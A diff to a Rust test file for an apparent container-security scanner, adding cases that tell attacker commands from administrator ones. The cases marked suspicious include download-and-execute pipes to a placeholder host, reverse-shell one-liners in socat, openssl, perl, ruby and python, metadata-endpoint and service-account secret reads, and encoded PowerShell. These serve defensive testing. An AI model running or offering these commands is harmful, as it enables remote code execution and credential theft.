@@ -54,6 +54,28 @@ fn commands_of_attackers_are_told_from_those_of_administrators() {
         ("kubectl get secrets -A -o yaml", true),
         ("kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=x", true),
         ("./xmrig -o pool:3333", true),
+        ("curl -s http://203.0.113.7/p.py | python3 -", true),
+        ("wget -qO- http://203.0.113.7/p.pl | perl", true),
+        ("curl -s http://203.0.113.7/p.js | node; sleep 1", true),
+        ("curl -s http://203.0.113.7/p.rb | /usr/bin/ruby", true),
+        ("python2 -c 'import urllib2; exec urllib2.urlopen(\"http://203.0.113.7\").read()'", true),
+        ("python2 -c 'import urllib2 as u; c=u.urlopen(\"http://203.0.113.7\").read(); exec c'", true),
+        ("python3 -c 'import requests\nc=requests.get(\"http://203.0.113.7\").text\nexec(c)'", true),
+        ("socat TCP:203.0.113.7:443 EXEC:'/bin/sh -li',pty", true),
+        ("mkfifo /tmp/s; sh -i </tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 >/tmp/s", true),
+        ("openssl s_client -quiet -connect 203.0.113.7:443 | /bin/sh", true),
+        ("perl -e 'use Socket;socket(S,2,1,6);connect(S,$p);open(STDIN,\">&S\");exec(\"/bin/sh -i\")'", true),
+        ("perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,$a);STDIN->fdopen($c,r);system$_ while<>'", true),
+        ("ruby -rsocket -e 'c=TCPSocket.new(h,1);while(l=c.gets);IO.popen(l){|io|c.print io.read}end'", true),
+        ("ruby -rsocket -e 'f=TCPSocket.open(h,1).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'", true),
+        ("python3 -c 'import socket,subprocess as p;s=socket.socket();p.call([\"/bin/sh\"])'", true),
+        ("curl -s 'http://[fd00:ec2::254]/latest/meta-data/'", true),
+        ("ls /var/run/secrets/kubernetes.io/serviceaccount", true),
+        ("cat /var/run/secrets/kubernetes.io/serviceaccount/*", true),
+        ("powershell.exe -NoP -w hidden -enc SQBFAFgAIAAoAG4AZQB3AC0AbwBiAGoA", true),
+        ("pwsh -c \"iwr http://203.0.113.7/a.ps1 | iex\"", true),
+        ("pwsh -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\"", true),
+        ("écho; curl http://203.0.113.7/x | bash", true),
         ("pg_dump --all | gzip > /backup/dump.gz", false),
         ("curl -fsS https://hc-ping.example.com/1 && run-report", false),
         ("curl -s https://api.example.com/items | jq .name", false),
@@ -67,6 +89,23 @@ fn commands_of_attackers_are_told_from_those_of_administrators() {
         ("base64 -d /cfg/key > /tmp/key && app --key /tmp/key", false),
         ("python3 manage.py clearsessions", false),
         ("php artisan schedule:run", false),
+        ("curl -s https://api.example.com/items | python3 -m json.tool", false),
+        ("curl -s https://api.example.com/items | python3 -c 'import json,sys; json.load(sys.stdin)'", false),
+        ("curl -s https://api.example.com/items | perl -ne 'print if /x/'", false),
+        ("curl -s https://api.example.com/items | node parse.js", false),
+        ("exec python3 -c 'import urllib.request as u; u.urlopen(\"https://heartbeat.example.com\")'", false),
+        ("python3 -c 'import urllib.request as u; u.urlopen(\"https://h.example.com\")' && exec app", false),
+        ("python3 -c 'import requests; db.exec(requests.get(\"https://h.example.com\").text)'", false),
+        ("openssl s_client -connect shop.example.com:443 </dev/null | openssl x509 -noout -enddate", false),
+        ("mysqladmin --socket /run/mysqld/mysqld.sock ping && exec /usr/bin/sh /etc/notify.sh", false),
+        ("python3 -c 'import socket; socket.create_connection((\"db\", 5432))' && exec /bin/sh /run.sh", false),
+        ("ruby -rsocket -e 'TCPSocket.new(\"db\", 5432).close' && exec bundle exec rake", false),
+        ("perl -e 'use IO::Socket; IO::Socket::INET->new(\"db:5432\") or exit 1' && exec run-report", false),
+        ("curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://kubernetes.default", false),
+        ("cat /var/run/secrets/kubernetes.io/serviceaccount/namespace", false),
+        ("pwsh -ExecutionPolicy Bypass -File Sync-Prices.ps1", false),
+        ("pwsh -c Invoke-WebRequest https://api.example.com/items -OutFile items.json", false),
+        ("iex -S mix run", false),
     ] {
         let found = risks_of(&json!({"name": "a", "image": "app:1", "command": ["sh", "-c", line]}));
         let expected: &[RiskCode] = if suspicious { &[RiskCode::SuspiciousCommand] } else { &[] };
@@ -75,6 +114,20 @@ fn commands_of_attackers_are_told_from_those_of_administrators() {
         let found = risks_of(&json!({"name": "a", "image": "app:1", "args": split}));
         assert_eq!(found, expected, "{line}, as arguments");
     }
+}
+
+#[test]
+fn hosts_without_a_proxy_are_no_theft_and_nothing_else_hides_among_them() {
+    let risks = |name: &str, value: &str| {
+        risks_of(&json!({"name": "a", "image": "app:1", "env": [{"name": name, "value": value}]}))
+    };
+    let suspicious = [RiskCode::SuspiciousCommand];
+    for name in ["NO_PROXY", "no_proxy"] {
+        assert_eq!(risks(name, "169.254.169.254, .svc,10.0.0.0/8,[fd00:ec2::254]"), []);
+        assert_eq!(risks(name, "curl http://169.254.169.254/latest | sh"), suspicious);
+        assert_eq!(risks(name, "169.254.169.254/latest"), suspicious);
+    }
+    assert_eq!(risks("TARGET", "169.254.169.254"), suspicious);
 }
 
 #[test]
